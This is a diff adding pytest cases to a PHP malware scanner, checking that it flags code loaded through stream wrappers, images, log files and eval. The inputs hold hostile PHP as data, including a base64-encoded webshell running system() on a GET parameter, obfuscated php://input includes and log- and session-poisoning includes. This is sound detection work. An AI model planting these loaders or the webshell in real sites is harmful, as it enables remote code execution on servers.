@@ -13,6 +13,7 @@ from scanners.engines import ENGINES
 from scanners.engines.bandit import BanditEngine
 from scanners.engines.base import BINARY_HEAD_BYTES, FileEngine, content_kind, load
 from scanners.engines.phpcode import Taint, normalize, strip_comments
+from scanners.engines.phpload import Resolver, find_hidden_loads
 from scanners.findings import Finding, Severity, Verdict
 from scanners.intake import FileEntry, Tree, open_upload
 from scanners.policy import Policy
@@ -35,7 +36,8 @@ def verdict_of(policy: Policy, findings: list[Finding], path: str) -> Verdict:
 
 
 def test_registry_holds_every_engine() -> None:
-    assert {"clamav", "bandit", "php", "judol", "filetypes", "secrets", "scripts"} <= set(ENGINES)
+    assert {"clamav", "bandit", "php", "judol", "filetypes", "secrets", "scripts",
+            "dockerfile"} <= set(ENGINES)
     for engine in ENGINES.values():
         assert engine.name and callable(engine.scan)
 
@@ -109,6 +111,134 @@ def test_taint_follows_input_through_decoders_but_not_lookups() -> None:
                   "$d = isset($_POST['y']) ? $_POST['y'] : 'id';")
     assert {"$a", "$b", "$d"} <= taint.variables
     assert "$c" not in taint.variables
+
+
+# -- PHP: where included and evaluated code comes from ---------------------------------------------
+
+WEBSHELL_B64 = base64.b64encode(b"<?php system($_GET['c']);").decode()
+
+
+@pytest.mark.parametrize("source,rule", [
+    ("<?php require 'php://stdin';", "php_include_stream"),
+    (f"<?php include 'data://text/plain;base64,{WEBSHELL_B64}';", "php_include_stream"),
+    (f"<?php include 'data:text/plain;base64,' . '{WEBSHELL_B64}';", "php_include_stream"),
+    ("<?php include 'expect://id';", "php_include_command"),
+    ("<?php include 'php://filter/read=convert.base64-decode/resource=uploads/logo.png';",
+     "php_include_decode_filter"),
+    ("<?php require 'php://filter/string.rot13/resource=cache.php';", "php_include_decode_filter"),
+    ("<?php require_once 'phar://uploads/avatar.jpg/x.php';", "php_include_wrapper_media"),
+    ("<?php include 'zip://' . __DIR__ . '/files/foto.png#shell.php';", "php_include_wrapper_media"),
+    ("<?php include 'compress.zlib://images/bg.gif';", "php_include_wrapper_media"),
+    # Wrapper names built from pieces, escapes, decoders, variables and constants.
+    ("<?php $p = 'ph' . 'p:/' . '/in' . 'put'; include $p;", "php_include_stream"),
+    ("<?php $s = 'ph' . 'p'; $w = $s . '://in' . 'put'; include($w);", "php_include_stream"),
+    ('<?php include "\\x70\\x68\\x70\\x3a\\x2f\\x2finput";', "php_include_stream"),
+    ("<?php include chr(112) . chr(104) . chr(112) . '://stdin';", "php_include_stream"),
+    ("<?php include base64_decode('cGhwOi8vaW5wdXQ=');", "php_include_stream"),
+    ("<?php include strrev('tupni//:php');", "php_include_stream"),
+    ("<?php define('SRC', 'php://' . 'input'); include SRC;", "php_include_stream"),
+    ("<?php include 'ht' . 'tp://cdn.example/x.txt';", "php_include_remote"),
+    ("<?php include '/proc/self/environ';", "php_include_system_file"),
+    ("<?php include '/var/log/apache2/access.log';", "php_include_system_file"),
+    ("<?php include '/var/lib/php/sessions/sess_' . $_COOKIE['PHPSESSID'];",
+     "php_include_system_file"),
+    ("<?php $c = file_get_contents(__DIR__ . '/img/bg.jpg'); eval('?>' . $c);",
+     "php_eval_hidden_file"),
+    ("<?php $c = file_get_contents('compress.zlib://cache/x.gz'); eval($c);",
+     "php_eval_hidden_file"),
+    ("<?php $c = implode('', file('lang/id.txt')); eval($c);", "php_eval_hidden_file"),
+    ("<?php $h = fopen('logo.png', 'rb'); $c = fread($h, 99999); eval($c);",
+     "php_eval_hidden_file"),
+    ("<?php $c = file_get_contents('x.jpg'); $c = substr($c, 100); eval(trim($c));",
+     "php_eval_hidden_file"),
+])
+def test_php_loading_hidden_code_is_infected(offline_scanner: Scanner, tmp_path: Path, source: str,
+                                             rule: str) -> None:
+    findings = scan_files(offline_scanner, tmp_path, {"loader.php": source})
+    assert rule in {f.rule for f in findings if f.path == "loader.php"}, findings
+    assert verdict_of(offline_scanner.policy, findings, "loader.php") == Verdict.INFECTED, findings
+
+
+@pytest.mark.parametrize("source,rule", [
+    ("<?php include 'compress.zlib://cache/data.gz';", "php_include_wrapper"),
+    ("<?php include 'compress.bzip2://' . __DIR__ . '/x.bz2';", "php_include_wrapper"),
+    ("<?php include 'zlib:cache.gz';", "php_include_wrapper"),
+    ("<?php include 'glob://modules/*';", "php_include_wrapper"),
+    ("<?php include 'phar://' . __DIR__ . '/lib.phar/init.php';", "php_include_wrapper"),
+    ("<?php include 'php://filter/resource=config.php';", "php_include_wrapper"),
+    ("<?php stream_wrapper_register('var', 'V'); include 'var://payload';", "php_include_wrapper"),
+    ("<?php $w = 'compress.' . 'zlib://'; include $w . __DIR__ . '/cache.gz';",
+     "php_include_wrapper"),
+    ("<?php include $scheme . '://' . $path;", "php_include_wrapper"),
+    ("<?php include 'images/logo.png';", "php_include_non_php"),
+    ("<?php require $dir . '/x.jpg';", "php_include_non_php"),
+    ("<?php include __DIR__ . '/uploads/' . $name . '.gif';", "php_include_non_php"),
+    ("<?php $f = 'data/cache.txt'; include $f;", "php_include_non_php"),
+    ("<?php $f = $debug ? 'debug.php' : 'assets/fonts/roboto.woff'; include $f;",
+     "php_include_non_php"),
+    ("<?php include($x ?? 'uploads/b.ico');", "php_include_non_php"),
+    ("<?php define('W', __DIR__ . '/widgets/spacer.svg'); include W;", "php_include_non_php"),
+    ('<?php include "\\x69mages/\\x6cogo.png";', "php_include_non_php"),
+    ("<?php if ($x) include 'a.css'; else require('b.js');", "php_include_non_php"),
+    ("<?php include\n  dirname(__FILE__)\n  . '/cache/session.tmp'\n;", "php_include_non_php"),
+    ("<?php include 'logs/error.log'; include 'x.dat';", "php_include_non_php"),
+    ("<?php require __DIR__ . '/lib/helper';", "php_include_unusual_name"),
+    ("<?php include 'config.cfg';", "php_include_unusual_name"),
+    ("<?php include '/tmp/cache.php';", "php_include_temp_file"),
+    ("<?php $c = file_get_contents($tpl); eval('?>' . $c);", "php_eval_file"),
+])
+def test_php_loading_unusual_code_is_review(offline_scanner: Scanner, tmp_path: Path, source: str,
+                                            rule: str) -> None:
+    findings = scan_files(offline_scanner, tmp_path, {"loader.php": source})
+    assert rule in {f.rule for f in findings if f.path == "loader.php"}, findings
+    assert verdict_of(offline_scanner.policy, findings, "loader.php") == Verdict.REVIEW, findings
+
+
+@pytest.mark.parametrize("source", [
+    "<?php include 'header.php'; require_once __DIR__ . '/vendor/autoload.php';",
+    "<?php include 'koneksi.inc'; include 'templates/header.html'; include 'view.tpl'; "
+    "include 'layout.phtml'; include \"$theme/footer.htm\";",
+    "<?php if (file_exists(ABSPATH . '.maintenance')) { require ABSPATH . '.maintenance'; }",
+    "<?php include $page . '.php'; include_once(PLUGIN_DIR . $name . '/init.php');",
+    "<?php foreach ($files as $file) { include $file; }",
+    "<?php echo 'Please include the logo.png file'; $t = 'include this.txt';",
+    "<?php function a() { $file = 'readme.txt'; echo file_get_contents($file); }\n"
+    "function b($file) { include $file; }",
+    "<?php /* include 'x.png'; */ // include 'y.jpg';\n# require 'z.gif';\n",
+    "<?php $url = 'https://example.go.id/'; $logo = 'logo.png'; include $path;",
+    "<?php $tpl = file_get_contents('mail.html'); echo strtr($tpl, $vars);",
+    "<?php $v = 'lib.v1.2'; require 'vendor/lib-1.2/src/Client.php';",
+])
+def test_php_ordinary_includes_stay_clean(offline_scanner: Scanner, tmp_path: Path,
+                                          source: str) -> None:
+    findings = scan_files(offline_scanner, tmp_path, {"page.php": source})
+    assert verdict_of(offline_scanner.policy, findings, "page.php") == Verdict.CLEAN, findings
+
+
+def test_javascript_require_is_not_read_as_a_php_include(offline_scanner: Scanner,
+                                                         tmp_path: Path) -> None:
+    bundle = 'var x = "<?php echo 1; ?>"; var Parser = require("./Parser"); require("./logo.png");'
+    findings = scan_files(offline_scanner, tmp_path, {"app.js": bundle})
+    assert not [f for f in findings if f.rule.startswith("php_include")], findings
+
+
+def test_include_findings_point_at_the_include(offline_scanner: Scanner, tmp_path: Path) -> None:
+    source = "<?php\n$w = 'compress.' . 'zlib://';\n\n@include $w . 'up/a.png';\n"
+    findings = scan_files(offline_scanner, tmp_path, {"x.php": source})
+    hit = next(f for f in findings if f.rule == "php_include_wrapper_media")
+    assert hit.line == 4 and hit.snippet == "@include $w . 'up/a.png';"
+    assert "disusun" in hit.message
+
+
+def test_include_targets_resolve_within_their_function() -> None:
+    code = strip_comments(
+        "<?php function a() { $f = 'x.png'; }\nfunction b() { include $f; }\n"
+        "function c() { $g = 'y.txt'; $g = 'y.php'; include $g; }\n"
+        "function d() { $h = 'ok.php'; $h = 'bad.ico'; include $h; }\n")
+    assert [(hit.rule, hit.line) for hit in find_hidden_loads(code)] == [("php_include_non_php", 4)]
+    resolver = Resolver("<?php define('A', 'php:'); define('B', A . '//in' . 'put');")
+    assert [t.prefix for t in resolver.targets("B", 70)] == ["php://input"]
+    assert [t.text for t in resolver.targets("$unknown . '/x.png'", 0)] == ["\u2026/x.png"]
 
 
 # -- judol -----------------------------------------------------------------------------------------
